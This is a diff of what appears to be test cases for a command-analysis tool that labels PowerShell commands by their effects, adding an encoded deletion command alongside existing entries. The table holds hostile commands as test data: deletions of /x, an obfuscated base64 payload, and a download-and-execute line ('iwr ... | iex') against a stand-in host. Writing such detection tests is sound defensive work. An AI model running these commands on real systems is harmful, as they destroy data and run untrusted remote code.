@@ -27,6 +27,8 @@ X = Hole(HoleKind.PARAMETER, "$X")
         ("powershell", "& 'rm' /x", ["deletes /x"]),
         ("powershell", "Start-Process rm /x", ["names /x perhaps", "argv rm /x"]),
         ("powershell", "iex 'rm /x'", ["deletes /x"]),
+        ("powershell", "cgBtACAALwB4AA==", ["deletes /x", "opaque decoded"]),
+        ("powershell", "Get-Process", []),
         ("powershell", "iwr https://e.example/ | iex", ["connects https://e.example/", "opaque network"]),
         (
             "powershell",
